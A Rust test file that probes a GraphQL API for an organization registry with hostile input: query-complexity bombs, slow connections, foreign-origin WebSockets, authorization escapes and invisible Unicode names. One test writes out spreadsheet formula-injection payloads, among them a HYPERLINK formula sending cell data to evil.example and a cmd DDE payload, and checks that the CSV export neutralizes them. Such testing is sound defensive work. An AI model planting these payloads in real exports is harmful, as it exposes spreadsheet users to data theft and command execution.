//! Hostile input, tried as an attacker would: each probe must get its documented code, never
//! crash the process, grow memory without bound, escape a scope or hang. Each test is the probe
//! that once failed (issue 12).

use crate::common::{TestApp, error_codes};
use axum::body::Body;
use axum::http::{Request, StatusCode};
use entity::enums::Role;
use futures::{SinkExt, StreamExt};
use serde_json::{Value, json};
use std::time::{Duration, Instant};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio_tungstenite::tungstenite::Message;
use tokio_tungstenite::tungstenite::client::IntoClientRequest;

mod generated;

/// POSTs a raw GraphQL body and returns the status and the JSON answer.
async fn post(app: &TestApp, body: Value) -> (StatusCode, Value) {
    let request = Request::post("/graphql")
        .header("content-type", "application/json")
        .body(Body::from(body.to_string()))
        .expect("request");
    let (status, _, body) = app.send(request).await;
    (status, serde_json::from_slice(&body).unwrap_or(Value::Null))
}

/// GETs `/graphql` with the given query-string parameters.
async fn get(app: &TestApp, params: &[(&str, &str)]) -> (StatusCode, Value) {
    let query = serde_urlencoded::to_string(params).expect("encodable");
    let request = Request::get(format!("/graphql?{query}"))
        .body(Body::empty())
        .expect("request");
    let (status, _, body) = app.send(request).await;
    (status, serde_json::from_slice(&body).unwrap_or(Value::Null))
}

fn nested_brackets(levels: usize) -> String {
    format!("{{ __typename(x: {}1{}) }}", "[".repeat(levels), "]".repeat(levels))
}

fn nested_objects(levels: usize) -> String {
    format!("{{ __typename(x: {}1{}) }}", "{a:".repeat(levels), "}".repeat(levels))
}

fn nested_selections(levels: usize) -> String {
    format!(
        "{{ {}__typename{} }}",
        "organization(id: \"x\") { ".repeat(levels),
        " }".repeat(levels)
    )
}

/// A WebSocket client speaking graphql-transport-ws.
struct Socket(tokio_tungstenite::WebSocketStream<tokio_tungstenite::MaybeTlsStream<tokio::net::TcpStream>>);

impl Socket {
    async fn open(address: std::net::SocketAddr) -> Self {
        let mut request = format!("ws://{address}/graphql/ws")
            .into_client_request()
            .expect("a request");
        request.headers_mut().insert(
            "Sec-WebSocket-Protocol",
            "graphql-transport-ws".parse().expect("a header"),
        );
        let (mut socket, _) = tokio_tungstenite::connect_async(request).await.expect("connect");
        socket
            .send(Message::text(
                json!({ "type": "connection_init", "payload": {} }).to_string(),
            ))
            .await
            .expect("send");
        let mut socket = Self(socket);
        assert_eq!(socket.next().await["type"], "connection_ack");
        socket
    }

    async fn next(&mut self) -> Value {
        let message = tokio::time::timeout(Duration::from_secs(20), self.0.next())
            .await
            .expect("a message within 20 s")
            .expect("the socket is open")
            .expect("a message");
        serde_json::from_str(message.to_text().expect("text")).expect("JSON")
    }

    /// Runs one operation and returns its first `next` message (or its `error` message),
    /// skipping what is left of earlier operations (their `complete`).
    async fn run(&mut self, id: &str, query: &str) -> Value {
        let subscribe = json!({ "id": id, "type": "subscribe", "payload": { "query": query } });
        self.0.send(Message::text(subscribe.to_string())).await.expect("send");
        loop {
            let message = self.next().await;
            if message["id"] == id && message["type"] != "complete" {
                return message;
            }
        }
    }
}

/// The codes of a graphql-ws `next` or `error` message.
fn socket_codes(message: &Value) -> Vec<String> {
    let errors = match message["type"].as_str() {
        Some("error") => message["payload"].clone(),
        _ => message["payload"]["errors"].clone(),
    };
    errors
        .as_array()
        .map(|errors| {
            errors
                .iter()
                .filter_map(|e| e["extensions"]["code"].as_str().map(str::to_owned))
                .collect()
        })
        .unwrap_or_default()
}

#[tokio::test]
async fn deeply_nested_documents_are_refused_over_every_transport_and_the_server_lives_on() {
    let app = TestApp::spawn().await;
    let deep = [
        nested_brackets(2_000),
        nested_objects(2_000),
        nested_brackets(100_000),
        format!(
            "query($x: [Int] = {}1{}) {{ __typename }}",
            "[".repeat(2_000),
            "]".repeat(2_000)
        ),
        nested_selections(40),
    ];
    for document in &deep {
        let (_, answer) = post(&app, json!({ "query": document })).await;
        assert_eq!(error_codes(&answer), ["QUERY_TOO_COMPLEX"], "POST: {answer}");
        if document.len() < 8_000 {
            let (_, answer) = get(&app, &[("query", document)]).await;
            assert_eq!(error_codes(&answer), ["QUERY_TOO_COMPLEX"], "GET: {answer}");
        }
    }
    let address = app.serve().await;
    let mut socket = Socket::open(address).await;
    for (index, document) in deep.iter().enumerate() {
        let message = socket.run(&index.to_string(), document).await;
        assert_eq!(socket_codes(&message), ["QUERY_TOO_COMPLEX"], "WebSocket: {message}");
    }
    // Still alive, and still answering.
    let data = app.query("{ organizations(first: 1) { totalCount } }", json!({})).await;
    assert!(data["organizations"]["totalCount"].as_i64().is_some_and(|n| n > 0));
}

#[tokio::test]
async fn fragments_that_expand_to_millions_of_fields_are_refused_before_validation() {
    let app = TestApp::spawn().await;
    let mut document = String::from("{ ...F0 }\n");
    for level in 0..24 {
        document.push_str(&format!(
            "fragment F{level} on Query {{ ...F{} ...F{} }}\n",
            level + 1,
            level + 1
        ));
    }
    document.push_str("fragment F24 on Query { __typename }\n");
    let started = Instant::now();
    let (_, answer) = post(&app, json!({ "query": document })).await;
    assert_eq!(error_codes(&answer), ["QUERY_TOO_COMPLEX"], "{answer}");
    assert!(started.elapsed() < Duration::from_secs(2), "refused at once");
    let mut chain = String::from("{ ...F0 }\n");
    for level in 0..3_000 {
        chain.push_str(&format!("fragment F{level} on Query {{ ...F{} }}\n", level + 1));
    }
    chain.push_str("fragment F3000 on Query { __typename }\n");
    let (_, answer) = post(&app, json!({ "query": chain })).await;
    assert_eq!(error_codes(&answer), ["QUERY_TOO_COMPLEX"], "{answer}");
}

#[tokio::test]
async fn nested_lists_whose_complexity_overflows_a_word_are_refused_not_wrapped() {
    let app = TestApp::spawn().await;
    // 50^13 rows: more than a 64-bit word can count. async-graphql's own sum overflows (a debug
    // build panics; a release build wraps to a small number and would let it run).
    let levels = 13;
    let query = format!(
        "{{ organization(id: \"T3JnYW5pemF0aW9uOjE\") {{ {}id{} }} }}",
        "children { ".repeat(levels),
        " }".repeat(levels)
    );
    let before = app.statements();
    let (_, answer) = post(&app, json!({ "query": query })).await;
    assert_eq!(error_codes(&answer), ["QUERY_TOO_COMPLEX"], "{answer}");
    assert_eq!(app.statements(), before, "refused before anything ran");
}

#[tokio::test]
async fn depth_over_the_limit_is_too_complex_at_every_depth() {
    let app = TestApp::spawn().await;
    for levels in [17, 20, 32, 33, 40, 63, 64, 65, 200] {
        let (_, answer) = post(&app, json!({ "query": nested_selections(levels) })).await;
        assert_eq!(error_codes(&answer), ["QUERY_TOO_COMPLEX"], "{levels} levels: {answer}");
    }
}

#[tokio::test]
async fn spreadsheet_formulas_in_names_units_and_titles_come_out_of_the_csv_as_text() {
    let app = TestApp::spawn().await;
    let admin = app.admin().await;
    let formula_name = r#"=HYPERLINK("http://evil.example/?x="&A1,"Chi bộ")"#;
    let created = app
        .graphql_as(
            Some(&admin),
            "mutation($input: CreateOrganizationInput!) { createOrganization(input: $input) { organization { id } } }",
            json!({ "input": { "name": formula_name, "kind": "PARTY_COMMITTEE", "level": "COMMUNE",
                "parentId": app.organization_id("Hà Nội").await, "foundedOn": "2020-01-01" } }),
        )
        .await;
    assert!(created.get("errors").is_none(), "{created:#}");
    let id = created["data"]["createOrganization"]["organization"]["id"]
        .as_str()
        .expect("an id")
        .to_owned();
    let assigned = app
        .graphql_as(
            Some(&admin),
            "mutation($input: AssignTargetsInput!) { assignTargets(input: $input) { targets { id } } }",
            json!({ "input": { "organizationId": id, "assignedByOrganizationId": app.organization_id("Hà Nội").await,
                "startYear": 2021, "endYear": 2025, "targets": [
                    { "text": "+1 điểm", "unit": "@SUM(A1:A9)", "measure": "COUNT", "comparator": "AT_LEAST", "minValue": "-2" },
                    { "text": "-cmd|' /C calc'!A0" } ] } }),
        )
        .await;
    assert!(assigned.get("errors").is_none(), "{assigned:#}");
    let request = Request::get(format!(
        "/reports/term-indicators.csv?organizationId={id}&termYear=2022"
    ))
    .body(Body::empty())
    .expect("request");
    let (status, _, body) = app.send(request).await;
    assert_eq!(status, StatusCode::OK);
    let text = String::from_utf8(body).expect("UTF-8");
    let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    let headers = reader.headers().expect("a header row").clone();
    let column = |name: &str| headers.iter().position(|h| h == name).expect("a column");
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("a row")).collect();
    assert_eq!(rows.len(), 2);
    for row in &rows {
        assert_eq!(&row[column("organization")], format!("'{formula_name}"));
    }
    assert_eq!(&rows[0][column("target")], "'+1 điểm");
    assert_eq!(&rows[0][column("unit")], "'@SUM(A1:A9)");
    assert_eq!(&rows[0][column("min_value")], "-2", "numbers stay numbers");
    assert_eq!(&rows[1][column("target")], "'-cmd|' /C calc'!A0");
    for row in &rows {
        for cell in row.iter() {
            assert!(
                !(cell.starts_with(['=', '+', '@']) || cell.starts_with('-') && cell.parse::<f64>().is_err()),
                "a cell a spreadsheet would run: {cell}"
            );
        }
    }
}

#[tokio::test]
async fn invented_operation_names_and_documents_do_not_grow_the_server() {
    let app = TestApp::spawn().await;
    let metrics_size = async || {
        let (_, _, body) = app
            .send(Request::get("/metrics").body(Body::empty()).expect("request"))
            .await;
        body.len()
    };
    app.query("{ organizations(first: 1) { totalCount } }", json!({})).await;
    let before = metrics_size().await;
    for n in 0..2_000 {
        let name = format!("Invented{n}");
        post(
            &app,
            json!({ "query": format!("query {name} {{ organizations(first: 1) {{ totalCount }} }}"), "operationName": name }),
        )
        .await;
    }
    let after = metrics_size().await;
    // Other tests of this process record metrics too; 2,000 labels would add megabytes.
    assert!(
        after < before + 64 * 1024,
        "/metrics grew from {before} to {after} bytes"
    );
    let (_, _, text) = app
        .send(Request::get("/metrics").body(Body::empty()).expect("request"))
        .await;
    assert!(!String::from_utf8_lossy(&text).contains("Invented"));
    // Thousands of distinct 20 KB documents, valid and not: the parsed-document cache stays
    // within its bytes, and unparseable ones are never kept.
    let padding = "# ".to_owned() + &"x".repeat(20_000) + "\n";
    for n in 0..600 {
        post(
            &app,
            json!({ "query": format!("{padding}{{ organizations(first: {}) {{ totalCount }} }}", n % 100) }),
        )
        .await;
    }
    let (documents, bytes) = app.app.pipeline.cached_documents();
    assert!(bytes <= 4 * 1024 * 1024, "{documents} documents hold {bytes} bytes");
    for n in 0..600 {
        post(&app, json!({ "query": format!("{{ broken {n}") })).await;
    }
    assert_eq!(
        app.app.pipeline.cached_documents().0,
        documents,
        "unparseable documents are not kept"
    );
}

#[tokio::test]
async fn one_request_cannot_hold_every_term_report() {
    let app = TestApp::spawn().await;
    let ha_noi = app.organization_id("Hà Nội").await;
    let aliased: String = (0..50)
        .map(|n| {
            format!("r{n}: termReport(organizationId: \"{ha_noi}\", termYear: 2022, includeDescendants: true) {{ summary {{ targets }} }} ")
        })
        .collect();
    let batch: Vec<Value> = (0..10)
        .map(|_| json!({ "query": format!("{{ {aliased} }}") }))
        .collect();
    let started = Instant::now();
    let (_, answer) = post(&app, Value::Array(batch)).await;
    assert!(started.elapsed() < Duration::from_secs(5), "refused at once");
    for item in answer.as_array().expect("a batch answer") {
        assert_eq!(error_codes(item), ["QUERY_TOO_COMPLEX"], "{item}");
        assert!(item.get("data").is_none() || item["data"].is_null());
    }
    // Two reports with descendants in one request (across a batch): the second is refused.
    let one = json!({ "query": format!("{{ termReport(organizationId: \"{ha_noi}\", termYear: 2022, includeDescendants: true) {{ summary {{ targets }} }} }}") });
    let (_, answer) = post(&app, json!([one, one])).await;
    let answers = answer.as_array().expect("a batch answer");
    assert!(answers[0].get("errors").is_none(), "{answer}");
    assert_eq!(error_codes(&answers[1]), ["QUERY_TOO_COMPLEX"]);
}

#[tokio::test]
async fn a_ward_s_report_does_not_wait_behind_a_province_s() {
    let app = TestApp::spawn().await;
    let ha_noi = app.organization_id("Hà Nội").await;
    let duc_thang = app.organization_id("Đức Thắng").await;
    // Someone holds the only turn for large reports for a long time.
    let held = app
        .app
        .pipeline
        .report_gate()
        .admit(&api::admission::ClientKey::Unknown)
        .await
        .expect("a turn");
    let started = Instant::now();
    let data = app
        .query(
            "query($id: ID!) { termReport(organizationId: $id, termYear: 2022) { summary { targets } } }",
            json!({ "id": duc_thang }),
        )
        .await;
    assert!(data["termReport"]["summary"]["targets"].as_i64().is_some_and(|n| n > 0));
    assert!(
        started.elapsed() < Duration::from_secs(2),
        "a ward's report never waits"
    );
    drop(held);
    // And a large one from another client is answered once the turn is free.
    let data = app
        .query(
            "query($id: ID!) { termReport(organizationId: $id, termYear: 2022, includeDescendants: true) { summary { targets } } }",
            json!({ "id": ha_noi }),
        )
        .await;
    assert!(data["termReport"]["summary"]["targets"].as_i64().is_some_and(|n| n > 0));
}

#[tokio::test]
async fn a_waiting_large_report_is_told_to_retry_instead_of_hanging() {
    let app = TestApp::spawn_with(|config| config.limits.report_queue_timeout_ms = 300).await;
    let ha_noi = app.organization_id("Hà Nội").await;
    let _held = app
        .app
        .pipeline
        .report_gate()
        .admit(&api::admission::ClientKey::Token(-1))
        .await
        .expect("a turn");
    let started = Instant::now();
    let answer = app
        .graphql(
            "query($id: ID!) { termReport(organizationId: $id, includeDescendants: true) { summary { targets } } }",
            json!({ "id": ha_noi }),
        )
        .await;
    assert_eq!(error_codes(&answer), ["QUERY_TOO_COMPLEX"], "{answer}");
    assert!(started.elapsed() < Duration::from_secs(3));
    let request = Request::get(format!(
        "/reports/term-indicators.csv?organizationId={ha_noi}&includeDescendants=true"
    ))
    .body(Body::empty())
    .expect("request");
    let (status, headers, _) = app.send(request).await;
    assert_eq!(status, StatusCode::SERVICE_UNAVAILABLE);
    assert!(headers.contains_key("retry-after"));
}

#[tokio::test]
async fn an_editor_cannot_move_its_own_organization_or_link_one_outside_its_subtree() {
    let app = TestApp::spawn().await;
    let bac_tu_liem = app.organization_id("Bắc Từ Liêm").await;
    let duc_thang = app.organization_id("Đức Thắng").await;
    let long_bien = app.organization_id("Long Biên").await;
    let mao_khe = app.organization_id("Mạo Khê").await;
    let editor = app.token(Role::Editor, Some(&bac_tu_liem)).await;
    let admin = app.admin().await;
    let mv = "mutation($input: MoveOrganizationInput!) { moveOrganization(input: $input) { organization { id } } }";
    let lineage = "mutation($input: RecordLineageInput!) { recordLineage(input: $input) { lineage { id } } }";
    let attempts = [
        (
            mv,
            json!({ "organizationId": bac_tu_liem, "parentId": long_bien, "from": "2024-01-01" }),
        ),
        (
            mv,
            json!({ "organizationId": bac_tu_liem, "parentId": null, "from": "2024-01-01" }),
        ),
        (
            mv,
            json!({ "organizationId": duc_thang, "parentId": long_bien, "from": "2024-01-01" }),
        ),
        (
            mv,
            json!({ "organizationId": duc_thang, "parentId": null, "from": "2024-01-01" }),
        ),
        (
            lineage,
            json!({ "predecessorId": mao_khe, "successorId": duc_thang, "kind": "MERGED", "effectiveOn": "2024-01-01" }),
        ),
        (
            lineage,
            json!({ "predecessorId": duc_thang, "successorId": mao_khe, "kind": "MERGED", "effectiveOn": "2024-01-01" }),
        ),
    ];
    for (query, input) in &attempts {
        let answer = app.graphql_as(Some(&editor), query, json!({ "input": input })).await;
        assert_eq!(error_codes(&answer), ["FORBIDDEN"], "{input}: {answer}");
    }
    // An organization that has left the subtree is not a place to move things into.
    let moved = app
        .graphql_as(
            Some(&admin),
            "mutation($input: CreateOrganizationInput!) { createOrganization(input: $input) { organization { id } } }",
            json!({ "input": { "name": "Chi bộ Tổ dân phố 1", "kind": "PARTY_CELL", "level": "BELOW_GRASSROOTS",
                "parentId": duc_thang, "foundedOn": "2020-01-01" } }),
        )
        .await;
    let cell = moved["data"]["createOrganization"]["organization"]["id"]
        .as_str()
        .expect("a cell")
        .to_owned();
    let sai_dong = app.organization_id("Sài Đồng").await;
    let out = app
        .graphql_as(
            Some(&admin),
            mv,
            json!({ "input": { "organizationId": cell, "parentId": sai_dong, "from": "2023-01-01" } }),
        )
        .await;
    assert!(out.get("errors").is_none(), "{out:#}");
    let other = app
        .graphql_as(
            Some(&admin),
            "mutation($input: CreateOrganizationInput!) { createOrganization(input: $input) { organization { id } } }",
            json!({ "input": { "name": "Chi bộ Tổ dân phố 2", "kind": "PARTY_CELL", "level": "BELOW_GRASSROOTS",
                "parentId": duc_thang, "foundedOn": "2020-01-01" } }),
        )
        .await;
    let second = other["data"]["createOrganization"]["organization"]["id"]
        .as_str()
        .expect("a cell")
        .to_owned();
    let answer = app
        .graphql_as(
            Some(&editor),
            mv,
            json!({ "input": { "organizationId": second, "parentId": cell, "from": "2024-01-01" } }),
        )
        .await;
    assert_eq!(error_codes(&answer), ["FORBIDDEN"], "{answer}");
}

#[tokio::test]
async fn websocket_operations_keep_the_http_limits() {
    let app = TestApp::spawn_with(|config| {
        config.max_body_bytes = 64 * 1024;
        config.request_timeout_ms = 1;
    })
    .await;
    let address = app.serve().await;
    let mut socket = Socket::open(address).await;
    // A document over the size limit, sent in a message under the body limit.
    let padded = format!("# {}\n{{ __typename }}", "x".repeat(40_000));
    let small = TestApp::spawn_with(|config| config.limits.max_document_bytes = 10_000).await;
    let small_address = small.serve().await;
    let mut small_socket = Socket::open(small_address).await;
    let message = small_socket.run("1", &padded).await;
    assert_eq!(socket_codes(&message), ["QUERY_TOO_COMPLEX"], "{message}");
    // A message over the body limit closes the socket with "message too big".
    let huge = json!({ "id": "2", "type": "subscribe", "payload": { "query": format!("# {}\n{{ __typename }}", "x".repeat(200_000)) } });
    socket.0.send(Message::text(huge.to_string())).await.expect("send");
    let closed = tokio::time::timeout(Duration::from_secs(30), socket.0.next())
        .await
        .expect("the server reacts");
    match closed {
        Some(Ok(Message::Close(Some(frame)))) => assert_eq!(u16::from(frame.code), 1009, "{frame:?}"),
        other => assert!(
            matches!(other, None | Some(Err(_)) | Some(Ok(Message::Close(None)))),
            "{other:?}"
        ),
    }
    // The request time limit holds for queries over WebSocket too.
    let mut socket = Socket::open(address).await;
    let message = socket
        .run(
            "3",
            "{ organizations(first: 100) { nodes { name congresses { ordinal } } } }",
        )
        .await;
    assert_eq!(socket_codes(&message), ["QUERY_TOO_COMPLEX"], "{message}");
    assert!(
        message["payload"]["errors"][0]["message"]
            .as_str()
            .is_some_and(|m| m.contains("longer than"))
    );
}

#[tokio::test]
async fn a_websocket_from_a_foreign_origin_is_refused() {
    let app = TestApp::spawn_with(|config| config.cors_allowed_origins = vec!["https://app.example".into()]).await;
    let address = app.serve().await;
    let connect = |origin: Option<&'static str>| async move {
        let mut request = format!("ws://{address}/graphql/ws")
            .into_client_request()
            .expect("a request");
        request.headers_mut().insert(
            "Sec-WebSocket-Protocol",
            "graphql-transport-ws".parse().expect("a header"),
        );
        if let Some(origin) = origin {
            request
                .headers_mut()
                .insert("Origin", origin.parse().expect("a header"));
        }
        tokio_tungstenite::connect_async(request).await
    };
    match connect(Some("https://evil.example")).await {
        Err(tokio_tungstenite::tungstenite::Error::Http(response)) => assert_eq!(response.status(), 403),
        other => panic!("a foreign origin must be refused: {:?}", other.map(|(_, r)| r.status())),
    }
    assert!(
        connect(Some("https://app.example")).await.is_ok(),
        "an allowed origin connects"
    );
    assert!(connect(None).await.is_ok(), "a client that is not a browser connects");
    let same_origin = format!("http://{address}");
    let same_origin: &'static str = Box::leak(same_origin.into_boxed_str());
    assert!(
        connect(Some(same_origin)).await.is_ok(),
        "the server's own pages connect"
    );
}

#[tokio::test]
async fn readiness_fails_on_a_database_that_cannot_serve() {
    let app = TestApp::spawn().await;
    let ready = async |app: &TestApp| {
        let (status, _, body) = app
            .send(Request::get("/readyz").body(Body::empty()).expect("request"))
            .await;
        (status, String::from_utf8_lossy(&body).into_owned())
    };
    assert_eq!(ready(&app).await.0, StatusCode::OK);
    if app.is_postgres() {
        // An unmigrated database: the migrations table is gone.
        use sea_orm::ConnectionTrait;
        app.app
            .db
            .conn
            .execute_unprepared("DROP TABLE seaql_migrations")
            .await
            .expect("drop");
        let (status, body) = ready(&app).await;
        assert_eq!(status, StatusCode::SERVICE_UNAVAILABLE, "{body}");
        return;
    }
    // SQLite: another process holds the write lock.
    let other = sea_orm::Database::connect(app.database_url.clone())
        .await
        .expect("connect");
    use sea_orm::ConnectionTrait;
    other
        .execute_unprepared("PRAGMA busy_timeout = 0")
        .await
        .expect("pragma");
    let lock = sea_orm::TransactionTrait::begin_with_options(
        &other,
        sea_orm::TransactionOptions {
            sqlite_transaction_mode: Some(sea_orm::SqliteTransactionMode::Immediate),
            ..Default::default()
        },
    )
    .await
    .expect("take the write lock");
    let (status, body) = ready(&app).await;
    assert_eq!(status, StatusCode::SERVICE_UNAVAILABLE, "{body}");
    assert!(body.contains("locked"), "{body}");
    lock.rollback().await.expect("release");
    assert_eq!(ready(&app).await.0, StatusCode::OK);
    // An empty file where the database was: not migrated.
    let dir = tempfile::tempdir().expect("a directory");
    let empty = dir.path().join("empty.db");
    std::fs::write(&empty, b"").expect("an empty file");
    let (unmigrated, _) = api::App::open(api::config::ServeConfig::for_database(&format!(
        "sqlite://{}?mode=rwc",
        empty.display()
    )))
    .await
    .expect("open");
    unmigrated
        .db
        .conn
        .execute_unprepared("DROP TABLE seaql_migrations")
        .await
        .expect("forget the migrations");
    let (status, _, _) = {
        use tower::ServiceExt;
        let response = unmigrated
            .router()
            .oneshot(Request::get("/readyz").body(Body::empty()).expect("request"))
            .await
            .expect("an answer");
        (response.status(), (), ())
    };
    assert_eq!(status, StatusCode::SERVICE_UNAVAILABLE);
}

#[tokio::test]
async fn slow_and_idle_connections_are_closed_and_do_not_hold_up_shutdown() {
    let app = TestApp::spawn().await;
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("a port");
    let address = listener.local_addr().expect("an address");
    let (stop, stopped) = tokio::sync::oneshot::channel::<()>();
    let limits = api::http::serve::ConnectionLimits {
        header_read_timeout: Duration::from_millis(300),
        max_connections: 16,
        grace: Duration::from_secs(30),
    };
    let server = tokio::spawn(api::http::serve::serve(listener, app.app.router(), limits, async {
        let _ = stopped.await;
    }));
    // Half-sent headers: the server closes the connection once the deadline passes.
    let mut slow = tokio::net::TcpStream::connect(address).await.expect("connect");
    slow.write_all(b"GET /healthz HTTP/1.1\r\nHost: x\r\n")
        .await
        .expect("write");
    let received = tokio::time::timeout(Duration::from_secs(5), until_closed(&mut slow))
        .await
        .expect("closed within the deadline");
    assert!(received.is_empty() || received.contains(" 408 "), "{received}");
    // An idle kept-alive connection is closed too, after its answer.
    let mut idle = tokio::net::TcpStream::connect(address).await.expect("connect");
    idle.write_all(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n")
        .await
        .expect("write");
    let received = tokio::time::timeout(Duration::from_secs(5), until_closed(&mut idle))
        .await
        .expect("closed within the deadline");
    assert!(received.starts_with("HTTP/1.1 200"), "{received}");
    // A connection sending headers slowly does not keep a stopping server for its grace period.
    let mut lingering = tokio::net::TcpStream::connect(address).await.expect("connect");
    lingering.write_all(b"GET /healthz HTTP/1.1\r\n").await.expect("write");
    tokio::time::sleep(Duration::from_millis(50)).await;
    let stopping = Instant::now();
    let _ = stop.send(());
    let outcome = tokio::time::timeout(Duration::from_secs(5), server)
        .await
        .expect("stopped within seconds, not the 30 s grace")
        .expect("joined");
    assert_eq!(outcome, api::http::serve::Stopped::Drained);
    assert!(stopping.elapsed() < Duration::from_secs(2));
}

/// Everything a connection receives until the server closes it.
async fn until_closed(stream: &mut tokio::net::TcpStream) -> String {
    let mut received = Vec::new();
    let mut buffer = [0u8; 1024];
    loop {
        match stream.read(&mut buffer).await {
            Ok(0) | Err(_) => return String::from_utf8_lossy(&received).into_owned(),
            Ok(n) => received.extend_from_slice(&buffer[..n]),
        }
    }
}

#[tokio::test]
async fn open_connections_are_capped() {
    let app = TestApp::spawn().await;
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("a port");
    let address = listener.local_addr().expect("an address");
    let limits = api::http::serve::ConnectionLimits {
        header_read_timeout: Duration::from_secs(10),
        max_connections: 2,
        grace: Duration::from_secs(1),
    };
    tokio::spawn(api::http::serve::serve(
        listener,
        app.app.router(),
        limits,
        std::future::pending(),
    ));
    let first = tokio::net::TcpStream::connect(address).await.expect("connect");
    let _second = tokio::net::TcpStream::connect(address).await.expect("connect");
    tokio::time::sleep(Duration::from_millis(100)).await;
    let mut third = tokio::net::TcpStream::connect(address)
        .await
        .expect("the kernel queues it");
    third
        .write_all(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n")
        .await
        .expect("write");
    let mut buffer = [0u8; 256];
    assert!(
        tokio::time::timeout(Duration::from_millis(300), third.read(&mut buffer))
            .await
            .is_err(),
        "a third connection waits while two are open"
    );
    drop(first);
    let n = tokio::time::timeout(Duration::from_secs(5), third.read(&mut buffer))
        .await
        .expect("served once a connection closes")
        .expect("read");
    assert!(String::from_utf8_lossy(&buffer[..n]).starts_with("HTTP/1.1 200"));
}

#[tokio::test]
async fn invisible_and_direction_changing_names_are_refused_for_organizations_too() {
    let app = TestApp::spawn().await;
    let admin = app.admin().await;
    let create =
        "mutation($input: CreateOrganizationInput!) { createOrganization(input: $input) { organization { name } } }";
    for name in [
        "\u{200B}\u{200D}\u{2060}",
        "\u{200B}",
        "Chi bộ \u{202E}ỉa\u{202C} 5",
        "Chi bộ \u{2067}5\u{2069}",
        "...",
        "123",
    ] {
        let answer = app
            .graphql_as(
                Some(&admin),
                create,
                json!({ "input": { "name": name, "kind": "PARTY_CELL", "level": "BELOW_GRASSROOTS" } }),
            )
            .await;
        assert_eq!(error_codes(&answer), ["BAD_USER_INPUT"], "{name:?}: {answer}");
    }
    // Invisible characters inside a real name are dropped, not stored.
    let answer = app
        .graphql_as(
            Some(&admin),
            create,
            json!({ "input": { "name": "Chi bộ\u{200B} Tổ\u{FEFF} 5", "kind": "PARTY_CELL", "level": "BELOW_GRASSROOTS" } }),
        )
        .await;
    assert_eq!(
        answer["data"]["createOrganization"]["organization"]["name"],
        "Chi bộ Tổ 5"
    );
}

#[tokio::test]
async fn get_honours_operation_name() {
    let app = TestApp::spawn().await;
    let document = "query A { organizations(first: 1) { totalCount } } query B { people(first: 1) { totalCount } }";
    let (status, answer) = get(&app, &[("query", document), ("operationName", "B")]).await;
    assert_eq!(status, StatusCode::OK, "{answer}");
    assert!(answer["data"]["people"]["totalCount"].as_i64().is_some(), "{answer}");
    assert!(answer["data"].get("organizations").is_none());
    let mutation = "query A { __typename } mutation M { endMembership(input: { membershipId: \"x\", endedOn: \"2020-01-01\", endReason: RETIRED }) { membership { id } } }";
    let (status, _) = get(&app, &[("query", mutation), ("operationName", "M")]).await;
    assert_eq!(status, StatusCode::METHOD_NOT_ALLOWED);
}

#[tokio::test]
async fn page_sizes_and_search_lengths_are_refused_before_anything_runs() {
    let app = TestApp::spawn().await;
    let long = "a".repeat(201);
    for (query, variables) in [
        (
            "{ a: organizations(first: 5) { totalCount } b: people(first: 500) { totalCount } }".to_owned(),
            json!({}),
        ),
        (
            "query($n: Int) { a: organizations(first: 5) { totalCount } b: people(first: $n) { totalCount } }".to_owned(),
            json!({ "n": -1 }),
        ),
        (
            "query($s: String) { a: organizations(first: 5) { totalCount } b: people(search: $s) { totalCount } }"
                .to_owned(),
            json!({ "s": long }),
        ),
        (
            "{ a: organizations(first: 5) { totalCount } ...F } fragment F on Query { documents(symbol: \"%s\") { totalCount } }"
                .replace("%s", &"1".repeat(300)),
            json!({}),
        ),
    ] {
        let before = app.statements();
        let answer = app.graphql(&query, variables).await;
        assert_eq!(error_codes(&answer), ["BAD_USER_INPUT"], "{query}: {answer}");
        assert!(answer.get("data").is_none() || answer["data"].is_null(), "nothing ran: {answer}");
        assert_eq!(app.statements(), before, "no statement ran for {query}");
        // The error points at the field whose argument it is about, as a resolver's would.
        let location = &answer["errors"][0]["locations"][0];
        assert_eq!(location["line"], 1, "{answer}");
        assert!(location["column"].as_u64().is_some_and(|column| column > 1), "{answer}");
    }
    let answer = app.graphql("{ people(first: 101) { totalCount } }", json!({})).await;
    assert_eq!(
        answer["errors"][0]["locations"],
        json!([{ "line": 1, "column": 3 }]),
        "{answer}"
    );
}

#[tokio::test]
async fn many_concurrent_writes_dry_runs_and_reads_never_fail_with_a_locked_database() {
    let app = TestApp::spawn().await;
    let admin = app.admin().await;
    let duc_thang = app.organization_id("Đức Thắng").await;
    let sai_dong = app.organization_id("Đảng bộ phường Sài Đồng").await;
    let create =
        "mutation($input: CreateOrganizationInput!) { createOrganization(input: $input) { organization { id } } }";
    let submit = "mutation($input: CongressResultInput!) { submitCongressResult(input: $input, dryRun: true) { congress { ordinal committees { members { person { fullName } } } } } }";
    let congress = json!({
        "organizationId": sai_dong, "ordinal": 12, "termStartYear": 2025, "termEndYear": 2030,
        "openedOn": "2025-06-10", "committees": [
            { "kind": "EXECUTIVE", "formation": "ELECTED_BY_CONGRESS", "seatCount": 3,
              "members": [ { "fullName": "Lê Văn Bình", "position": "SECRETARY" } ] } ] });
    let calls = (0..180).map(|n| {
        let app = &app;
        let admin = admin.clone();
        let parent = duc_thang.clone();
        let congress = congress.clone();
        async move {
            match n % 3 {
                0 => {
                    app.graphql_as(
                        Some(&admin),
                        create,
                        json!({ "input": { "name": format!("Chi bộ số {n}"), "kind": "PARTY_CELL", "level": "BELOW_GRASSROOTS",
                            "parentId": parent, "foundedOn": "2020-01-01" } }),
                    )
                    .await
                }
                1 => app.graphql_as(Some(&admin), submit, json!({ "input": congress })).await,
                _ => {
                    app.graphql(
                        "{ organizations(first: 20) { nodes { name congresses { committees { members { person { fullName } } } } } } }",
                        json!({}),
                    )
                    .await
                }
            }
        }
    });
    let answers = futures::future::join_all(calls).await;
    let failed: Vec<&Value> = answers.iter().filter(|a| a.get("errors").is_some()).collect();
    assert!(failed.is_empty(), "{} failed, e.g. {}", failed.len(), failed[0]);
}
